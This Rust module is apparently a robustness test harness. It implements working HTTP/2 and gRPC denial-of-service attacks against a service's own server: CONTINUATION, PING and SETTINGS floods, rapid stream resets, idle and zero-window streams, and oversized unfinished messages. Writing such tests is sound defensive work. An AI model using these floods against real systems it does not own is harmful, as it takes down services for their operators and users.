//! Attacks over HTTP/2 and gRPC.

use std::net::SocketAddr;
use std::time::Duration;

use bytes::Bytes;
use h2::client::SendRequest;
use milepost_wire::pb;
use prost::Message as _;
use tokio::io::AsyncWriteExt as _;
use tokio::task::JoinHandle;

use crate::http1::{connect, raw, refused};
use crate::target::at_once;

const PUBLISH: &str = "/milepost.v1.IngestService/Publish";
const PUBLISH_STREAM: &str = "/milepost.v1.IngestService/PublishStream";
const WATCH: &str = "/milepost.v1.MetricsService/Watch";

/// A connection whose streams take so many bytes unread.
async fn client(addr: SocketAddr, window: u32) -> Option<(SendRequest<Bytes>, JoinHandle<()>)> {
    let stream = connect(addr).await.ok()?;
    let mut builder = h2::client::Builder::new();
    builder.initial_window_size(window).initial_connection_window_size(1 << 20);
    let (client, connection) = builder.handshake(stream).await.ok()?;
    let driver = tokio::spawn(async move {
        // The server may end it: that is what is waited for.
        let _ = connection.await;
    });
    Some((client, driver))
}

/// A message of gRPC.
fn message(bytes: &[u8]) -> Bytes {
    [&[0][..], &u32::try_from(bytes.len()).unwrap().to_be_bytes(), bytes].concat().into()
}

/// Sends as fast as flow control allows.
async fn send(sender: &mut h2::SendStream<Bytes>, mut bytes: Bytes, end: bool) -> Option<()> {
    while !bytes.is_empty() {
        sender.reserve_capacity(bytes.len());
        let room = std::future::poll_fn(|context| sender.poll_capacity(context)).await?.ok()?;
        let part = bytes.split_to(room.min(bytes.len()));
        sender.send_data(part, end && bytes.is_empty()).ok()?;
    }
    Some(())
}

/// The status of `Publish` with these bytes.
async fn publish(addr: SocketAddr, body: Bytes) -> String {
    let (client, driver) = client(addr, 65_535).await.unwrap();
    let (response, mut sender) =
        client.ready().await.unwrap().send_request(http_request(PUBLISH), false).unwrap();
    // Who is refused before the end may be cut short.
    let _ = send(&mut sender, body, true).await;
    let Ok(mut response) = response.await else { return String::new() };
    let told = |headers: &axum::http::HeaderMap| {
        headers.get("grpc-status").map(|status| status.to_str().unwrap().to_owned())
    };
    let status = match told(response.headers()) {
        Some(status) => Some(status),
        None => response.body_mut().trailers().await.ok().flatten().as_ref().and_then(told),
    };
    driver.abort();
    status.unwrap_or_default()
}

fn http_request(path: &str) -> axum::http::Request<()> {
    axum::http::Request::post(format!("http://x{path}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())
        .unwrap()
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// A frame of HTTP/2.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Headers that never end: a HEADERS frame and CONTINUATION frames behind it.
pub(crate) async fn continuation_flood(addr: SocketAddr) {
    // A literal header that is not indexed, of one letter and 100 bytes; 150 of them fit into a frame.
    let header = [&[0, 1, b'x', 100][..], &[b'y'; 100]].concat().repeat(150);
    let begin = [PREFACE.to_vec(), frame(4, 0, 0, &[]), frame(1, 0, 1, &header)].concat();
    let endless = std::iter::repeat_n(frame(9, 0, 1, &header), 2_000);
    flood(addr, std::iter::once(begin).chain(endless)).await;
}

pub(crate) async fn ping_flood(addr: SocketAddr) {
    let begin = [PREFACE.to_vec(), frame(4, 0, 0, &[])].concat();
    let endless = std::iter::repeat_n(frame(6, 0, 0, &[0; 8]).repeat(1_000), 200);
    flood(addr, std::iter::once(begin).chain(endless)).await;
}

/// Writes without ever reading, until the server has enough of it or takes nothing any more.
async fn flood(addr: SocketAddr, parts: impl IntoIterator<Item = Vec<u8>>) {
    let Ok(mut stream) = connect(addr).await else { return };
    for part in parts {
        let Ok(Ok(())) = tokio::time::timeout(Duration::from_secs(1), stream.write_all(&part)).await else {
            return;
        };
    }
}

/// Settings that want to be acknowledged, without end.
pub(crate) async fn settings_flood(addr: SocketAddr) {
    let begin = [PREFACE.to_vec(), frame(4, 0, 0, &[])].concat();
    let endless = std::iter::repeat_n(frame(4, 0, 0, &[]).repeat(1_000), 200);
    flood(addr, std::iter::once(begin).chain(endless)).await;
}

/// Opens streams and resets them at once, on a few connections, until each is closed.
pub(crate) async fn rapid_reset(addr: SocketAddr) {
    at_once(4, |_| async move {
        let Some((mut client, driver)) = client(addr, 65_535).await else { return };
        for _ in 0..20_000 {
            let Ok(ready) = client.ready().await else { break };
            client = ready;
            let Ok((_, mut sender)) = client.send_request(http_request(PUBLISH), false) else { break };
            sender.send_reset(h2::Reason::CANCEL);
        }
        driver.abort();
    })
    .await;
}

/// Opens streams and makes the server reset them: a window that grows by nothing is an error of its stream.
pub(crate) async fn provoked_resets(addr: SocketAddr) {
    // Of HPACK's static table: POST, http, /; then the authority as a literal.
    let headers = [0x83, 0x86, 0x84, 0x41, 1, b'x'];
    let begin = [PREFACE.to_vec(), frame(4, 0, 0, &[])].concat();
    let streams = (0..100_u32).map(|batch| {
        let pair = |n: u32| {
            let stream = 2 * (batch * 200 + n) + 1;
            [frame(1, 4, stream, &headers), frame(8, 0, stream, &[0; 4])].concat()
        };
        (0..200).flat_map(pair).collect::<Vec<u8>>()
    });
    flood(addr, std::iter::once(begin).chain(streams)).await;
}

/// Ten thousand streams that are opened and then say nothing, with as many headers as are taken.
pub(crate) async fn idle_streams(addr: SocketAddr) {
    at_once(50, |_| async move {
        let Some((mut client, driver)) = client(addr, 65_535).await else { return };
        let mut open = Vec::new();
        for _ in 0..200 {
            let ready = tokio::time::timeout(Duration::from_secs(1), client.clone().ready()).await;
            let Ok(Ok(ready)) = ready else { break };
            client = ready;
            let mut request = http_request(PUBLISH);
            let filler = axum::http::HeaderValue::from_str(&"z".repeat(7_000)).unwrap();
            request.headers_mut().insert("x-filler", filler);
            let Ok(stream) = client.send_request(request, false) else { break };
            open.push(stream);
        }
        let answers = open.into_iter().map(|(response, sender)| async move {
            let _ = response.await;
            drop(sender);
        });
        let all = futures::future::join_all(answers);
        let _ = tokio::time::timeout(Duration::from_secs(90), all).await;
        driver.abort();
    })
    .await;
}

/// Batches of a stream that are complete but for their last bytes, on many streams.
pub(crate) async fn unfinished_batches(addr: SocketAddr) {
    at_once(20, |_| async move {
        let Some((mut client, driver)) = client(addr, 65_535).await else { return };
        let mut open = Vec::new();
        for _ in 0..10 {
            let Ok(ready) = client.ready().await else { return };
            client = ready;
            let Ok((response, mut sender)) = client.send_request(http_request(PUBLISH_STREAM), false) else {
                return;
            };
            let batch = [&[0][..], &(15_u32 << 20).to_be_bytes(), &vec![b'a'; 14 << 20]].concat();
            open.push(async move {
                let _ = send(&mut sender, batch.into(), false).await;
                if let Ok(response) = response.await {
                    // Until the server ends it.
                    let mut body = response.into_body();
                    while let Some(Ok(_)) = body.data().await {}
                }
            });
        }
        let all = futures::future::join_all(open);
        let _ = tokio::time::timeout(Duration::from_secs(90), all).await;
        driver.abort();
    })
    .await;
}

/// Long answers that are asked for by many streams and never read: the window of their reader is shut.
pub(crate) async fn unread_messages(addr: SocketAddr) {
    let range = pb::QueryRangeRequest {
        selector: Some(market_share()),
        from: "2026-01-01".into(),
        to: "2026-02-18".into(),
        step: String::new(),
    };
    at_once(10, |number| {
        let message = if number.is_multiple_of(2) { range.encode_to_vec() } else { watch().encode_to_vec() };
        let path = if number.is_multiple_of(2) { "/milepost.v1.MetricsService/QueryRange" } else { WATCH };
        unread(addr, path, message, 100)
    })
    .await;
}

/// Many that watch all there is, each reading all it is told.
pub(crate) async fn watches(addr: SocketAddr) {
    at_once(10, |_| async move {
        let Some((mut client, driver)) = client(addr, 1 << 20).await else { return };
        let mut open = Vec::new();
        for _ in 0..20 {
            let Ok(ready) = client.ready().await else { return };
            client = ready;
            let Ok((response, mut sender)) = client.send_request(http_request(WATCH), false) else { return };
            open.push(async move {
                let _ = send(&mut sender, message(&watch().encode_to_vec()), true).await;
                let Ok(response) = response.await else { return };
                let mut body = response.into_body();
                while let Some(Ok(data)) = body.data().await {
                    let _ = body.flow_control().release_capacity(data.len());
                }
            });
        }
        let _ = tokio::time::timeout(Duration::from_secs(10), futures::future::join_all(open)).await;
        driver.abort();
    })
    .await;
}

fn market_share() -> pb::Selector {
    pb::Selector { metric: "market_share".into(), ..Default::default() }
}

fn watch() -> pb::WatchRequest {
    pb::WatchRequest { selectors: vec![market_share(); 4] }
}

/// Asks the same on many streams of a connection, and lets none of the answers through.
async fn unread(addr: SocketAddr, path: &str, bytes: Vec<u8>, streams: usize) {
    let Some((mut client, driver)) = client(addr, 0).await else { return };
    let mut open = Vec::new();
    for _ in 0..streams {
        let Ok(ready) = client.ready().await else { return };
        client = ready;
        let Ok((response, mut sender)) = client.send_request(http_request(path), false) else { return };
        let bytes = message(&bytes);
        open.push(async move {
            let _ = send(&mut sender, bytes, true).await;
            let Ok(response) = response.await else { return };
            let mut body = response.into_body();
            while let Some(Ok(_)) = body.data().await {}
        });
    }
    let _ = tokio::time::timeout(Duration::from_secs(90), futures::future::join_all(open)).await;
    driver.abort();
}

pub(crate) async fn tiny_events(addr: SocketAddr) {
    let lines = b"{}\n".repeat((16 << 20) / 3);
    let array = [b"[".to_vec(), b"0,".repeat((16 << 20) / 2 - 1), b"0]".to_vec()].concat();
    for (body, content_type) in [(lines, "application/x-ndjson"), (array, "application/json")] {
        let head = format!(
            "POST /v1/events HTTP/1.1\r\nhost: x\r\ncontent-type: {content_type}\r\ncontent-length: {}\r\n\r\n",
            body.len()
        );
        let answer = raw(addr, [head.into_bytes(), body]).await;
        assert!(refused(&answer), "{answer}");
    }
    let empty = b"\x0a\x00".repeat((16 << 20) / 2);
    let status = publish(addr, message(&empty)).await;
    assert!(["3", "4", ""].contains(&status.as_str()), "INVALID_ARGUMENT or too slow, not {status}");
}
